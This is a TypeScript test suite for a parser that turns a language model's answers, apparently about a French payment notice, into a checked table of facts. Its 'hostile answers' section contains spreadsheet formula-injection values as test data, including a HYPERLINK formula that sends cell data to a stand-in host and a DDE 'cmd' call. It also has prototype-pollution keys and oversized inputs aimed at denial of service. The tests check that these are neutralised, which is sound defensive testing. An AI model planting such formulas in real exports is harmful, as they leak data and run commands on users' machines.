import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { extract } from '../../../lib/actions/extract.ts';
import { factsIn } from '../../../lib/actions/facts.ts';
import type { Action, ActionInput } from '../../../lib/actions/types.ts';

const TEXT =
  'Vous devez payer 120,50 € avant le 30 avril 2026. Écrivez à Mme Petit, qui a dit : « le dossier A|B est clos ».';
const input = (over: Partial<ActionInput> = {}): ActionInput => ({
  text: TEXT,
  format: 'markdown',
  options: {},
  delimiter: '8f3a41c2d9',
  uiLanguage: 'fr',
  ...over,
});
const read = (answer: string, over: Partial<ActionInput> = {}) => extract.cleanOutput(answer, input(over));
const rows = (answer: string, over: Partial<ActionInput> = {}) => {
  const output = read(answer, over);
  return output.outcome === 'proposal' ? output.text.split('\n').slice(2) : [];
};

const AMOUNT = '| Montant | 120,50 € | «\u00A0Vous devez payer 120,50 €\u00A0» |';
const LIMIT = '| Date limite | 30 avril 2026 | «\u00A0avant le 30 avril 2026\u00A0» |';
const FACTS = [
  { type: 'montant', value: '120,50 €', quote: 'Vous devez payer 120,50 €' },
  { type: 'date limite', value: '30 avril 2026', quote: 'avant le 30 avril 2026' },
];
const JSON_TEXT = JSON.stringify({ facts: FACTS });

describe('whatever shape the answer has, the facts are read', () => {
  it.each([
    ['as asked', JSON_TEXT],
    ['set out over lines', JSON.stringify({ facts: FACTS }, null, 2)],
    ['in a fence', `\`\`\`json\n${JSON_TEXT}\n\`\`\``],
    ['after a word of introduction', `Bien sûr ! Voici les faits [extraits du texte] :\n\n${JSON_TEXT}`],
    ['before a remark', `${JSON_TEXT}\n\nN’hésitez pas à me dire s’il manque un fait.`],
    ['as a bare list', JSON.stringify(FACTS)],
    ['as one object after the other', FACTS.map((fact) => JSON.stringify(fact)).join('\n')],
    ['in two lists', `{"facts":[${JSON.stringify(FACTS[0])}]}\n{"facts":[${JSON.stringify(FACTS[1])}]}`],
    ['with commas too many', JSON_TEXT.replaceAll('}', ',}').replace(']', ',]')],
    ['with commas missing', JSON.stringify({ facts: FACTS }, null, 2).replaceAll(',\n', '\n')],
    [
      'with the keys in French',
      JSON.stringify({
        faits: FACTS.map(({ type, value, quote }) => ({
          Catégorie: type,
          Valeur: value,
          'Citation exacte': quote,
          citation: quote,
        })),
      }),
    ],
    ['with quotes of Python', JSON_TEXT.replaceAll('"', "'")],
    ['with typographic quotes', JSON_TEXT.replaceAll(/"([^"]*)"/g, '“$1”')],
    ['with bare keys', JSON_TEXT.replaceAll(/"(facts|type|value|quote)"/g, '$1')],
    ['with a bracket forgotten', JSON_TEXT.replace('}]}', ']}')],
    ['within another object', JSON.stringify({ status: 'ok', result: { count: 2, data: { facts: FACTS } } })],
    [
      'grouped by type',
      JSON.stringify({
        montant: [{ value: FACTS[0]?.value, quote: FACTS[0]?.quote }],
        'date limite': [{ value: FACTS[1]?.value, quote: FACTS[1]?.quote }],
      }),
    ],
    [
      'as a Markdown table',
      `Voici :\n\n| Type | Valeur | Citation |\n| :--- | --- | --- |\n${FACTS.map(({ type, value, quote }) => `| **${type}** | ${value} | « ${quote} » |`).join('\n')}\n\nVoilà.`,
    ],
  ])('%s', (_, answer) => {
    const [first, second, ...others] = rows(answer);
    expect(first?.toLowerCase()).toBe(AMOUNT.toLowerCase());
    expect(second?.toLowerCase()).toBe(LIMIT.toLowerCase());
    expect(others).toEqual([]);
  });

  it('of one object alone', () => {
    expect(rows(JSON.stringify(FACTS[0]))).toEqual([AMOUNT]);
  });

  it('of fields named by what they hold, each its own quotation', () => {
    expect(rows('{"Montant dû": "120,50 €", "Date limite": "31 avril 2026"}')).toEqual([
      '| Montant dû | 120,50 € | «\u00A0120,50 €\u00A0» |',
      '| Date limite | 31 avril 2026 | ⚠ «\u00A031 avril 2026\u00A0» (citation non retrouvée) |',
    ]);
  });

  it('with quotes within quotes and no escape', () => {
    const answer =
      '{"facts":[{"type":"citation","value":"dossier clos","quote":"qui a dit : "le dossier A|B est clos""}]}';
    expect(rows(answer)).toEqual([
      '| Citation | dossier clos | «\u00A0qui a dit : "le dossier A\\|B est clos"\u00A0» |',
    ]);
  });

  it('whose prose holds no data is shown as it is, its quotations checked', () => {
    expect(
      read('Le montant est de 120,50 € : « Vous devez payer 120,50 € », « Vous paierez 130 € ».'),
    ).toEqual({
      outcome: 'proposal',
      text: 'Le montant est de 120,50 € : « Vous devez payer 120,50 € », « Vous paierez 130 € » (⚠ citation non retrouvée).',
    });
  });
});

describe('a quotation', () => {
  it('that is not in the text is marked, never dropped', () => {
    const made = [{ type: 'montant', value: '130 €', quote: 'Vous devez payer 130 €' }];
    expect(rows(JSON.stringify(made))).toEqual([
      '| Montant | 130 € | ⚠ «\u00A0Vous devez payer 130 €\u00A0» (citation non retrouvée) |',
    ]);
    expect(rows(JSON.stringify(made), { uiLanguage: 'en-GB' })).toEqual([
      '| Montant | 130 € | ⚠ “Vous devez payer 130 €” (quotation not found) |',
    ]);
  });

  it('that is missing is said to be', () => {
    expect(rows('[{"type":"montant","value":"130 €","quote":""}]')).toEqual([
      '| Montant | 130 € | ⚠ aucune citation |',
    ]);
  });

  it('is checked against the text as it was sent, invisible characters aside', () => {
    const text = TEXT.replace('payer', 'pa\u200Byer');
    expect(rows(JSON_TEXT, { text })[0]).toBe(AMOUNT);
  });
});

describe('the table', () => {
  it('cannot be broken by a cell', () => {
    const hostile = [{ type: 'a|b', value: 'x\n| y \\| z', quote: 'le dossier A|B\n\n# est clos' }];
    const [row, ...others] = rows(JSON.stringify(hostile));
    expect(others).toEqual([]);
    expect(row?.split(/(?<!\\)\|/)).toHaveLength(5);
  });

  it('is lines with tabs in a field', () => {
    const output = read(JSON_TEXT, { format: 'plain' });
    expect(output).toEqual({
      outcome: 'proposal',
      text: [
        'Type\tValeur\tCitation',
        'Montant\t120,50 €\t«\u00A0Vous devez payer 120,50 €\u00A0»',
        'Date limite\t30 avril 2026\t«\u00A0avant le 30 avril 2026\u00A0»',
      ].join('\n'),
    });
  });

  it('says in one sentence that there is no such fact', () => {
    expect(read('{"facts":[]}')).toEqual({
      outcome: 'proposal',
      text: 'Aucun fait de ce type dans le texte.',
    });
    expect(read('{"facts":[]}', { uiLanguage: 'en' })).toMatchObject({ text: 'No such fact in the text.' });
  });
});

describe('an answer cut in the middle', () => {
  it('keeps what is complete, and says that it was cut', () => {
    for (let length = JSON_TEXT.indexOf('}') + 1; length < JSON_TEXT.length; length += 1) {
      const output = read(JSON_TEXT.slice(0, length));
      expect(output).toMatchObject({ outcome: 'proposal', cut: true });
      expect(rows(JSON_TEXT.slice(0, length))[0]).toBe(AMOUNT);
    }
    expect(read(JSON_TEXT)).not.toHaveProperty('cut');
  });

  it('never shows half a fact', () => {
    const whole = factsIn(JSON_TEXT)?.facts ?? [];
    for (let length = 1; length < JSON_TEXT.length; length += 1) {
      const part = factsIn(JSON_TEXT.slice(0, length))?.facts ?? [];
      expect(whole.slice(0, part.length)).toEqual(part);
    }
  });
});

describe('while it comes', () => {
  const present = (extract as Action).present ?? (() => '');

  it.each([
    [
      'JSON',
      `Voici :\n\`\`\`json\n${JSON.stringify({ facts: [...FACTS, ...FACTS, ...FACTS] }, null, 1)}\n\`\`\``,
    ],
    ['a table', `| type | value | quote |\n|---|---|---|\n${'| montant | 120,50 € | payer |\n'.repeat(30)}`],
  ])('what is shown of %s only grows, and whole rows at a time', (_, answer) => {
    const request = input();
    let shown = '';
    for (let length = 1; length <= answer.length; length += 1) {
      const now = present(answer.slice(0, length), request);
      expect(now.startsWith(shown)).toBe(true);
      if (now !== '') expect(now.endsWith('|')).toBe(true);
      shown = now;
    }
    expect(shown.split('\n').length).toBeGreaterThan(4);
  });

  it('an answer in prose is shown as it comes', () => {
    const prose = 'Le texte parle d’un montant de 120,50 € à payer avant le 30 avril 2026. '.repeat(6);
    const request = input();
    let shown = '';
    for (let length = 1; length <= prose.length; length += 1) {
      const now = present(prose.slice(0, length), request);
      expect(now.startsWith(shown)).toBe(true);
      expect(prose.startsWith(now)).toBe(true);
      shown = now;
    }
    expect(shown.length).toBeGreaterThan(prose.length * 0.9);
  });

  it('begins anew with another answer to the same request', () => {
    const request = input();
    expect(present(JSON_TEXT, request)).toContain('120,50');
    expect(present('{"facts":[', request)).toBe('');
  });
});

describe('hostile answers', () => {
  it('give a spreadsheet nothing to work out', () => {
    const values = [
      '=HYPERLINK("http://x.test?"&A1)',
      '@SUM(A1)',
      "+cmd|' /C calc'!A0",
      '-12 €',
      '+33 1 44 00 00 00',
      '- à rendre',
    ];
    const answer = JSON.stringify({ facts: values.map((value) => ({ type: '=1', value, quote: '' })) });
    const output = read(answer, { format: 'plain' });
    const table = output.outcome === 'proposal' ? output.text.split('\n').slice(1) : [];
    expect(table.map((row) => row.split('\t')[1])).toEqual([
      ...values.slice(0, 3).map((value) => `'${value}`),
      ...values.slice(3),
    ]);
    expect(table.every((row) => row.startsWith("'=1"))).toBe(true);
  });

  it.each([
    ['brackets', '['.repeat(200_000)],
    ['braces', '{"a":'.repeat(80_000)],
    ['quotes', '{"a":"'.repeat(60_000)],
    ['quotes and blanks', `["a${'" '.repeat(150_000)}`],
    ['blanks after quotes', `["${`"${' '.repeat(1000)}`.repeat(300)}`],
    ['backslashes', `{"value":"${'\\'.repeat(300_001)}|`],
    ['bars', '|'.repeat(400_000)],
    ['dashes', `|a|\n|${'-'.repeat(300_000)}x`],
    ['facts', `[${'{"value":"a","quote":"b c"},'.repeat(14_000)}`],
    ['quotation marks', '« '.repeat(150_000)],
    [
      'prototype keys',
      '{"facts":[{"__proto__":{"value":"x"},"constructor":"y","value":"z","quote":"avant"}]}',
    ],
  ])('of many %s are read to their end', (_, answer) => {
    expect(read(answer).outcome).toBe('proposal');
  });

  it('of any text are read', () => {
    const piece = fc.constantFrom(
      '{',
      '}',
      '[',
      ']',
      '"',
      ':',
      ',',
      '\\',
      '\n',
      '|',
      '---',
      'value',
      ' a ',
      '«',
      '12',
      "'",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const answer = pieces.join('');
        expect(read(answer).outcome).toBe('proposal');
        factsIn(answer);
      }),
      { numRuns: 2000 },
    );
  });
});
